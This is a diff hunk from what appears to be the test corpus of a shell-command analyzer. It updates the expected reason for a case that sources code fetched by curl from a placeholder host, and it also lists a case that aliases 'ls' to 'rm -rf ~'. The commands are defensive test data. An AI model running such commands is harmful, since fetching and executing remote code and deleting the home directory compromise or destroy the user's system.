@@ -345,7 +345,7 @@ CORPUS_CASES: list[tuple[str, list[dict[str, Any]], str | None]] = [
             C("curl"),
             C("source", dynamic_args=("<(curl -s https://x.example/rc)",), input_from=("curl",)),
         ],
-        None,
+        "output of a command",
     ),
     ("alias ls='rm -rf ~'; ls", [C("alias"), C("ls")], "alias definition"),
     (
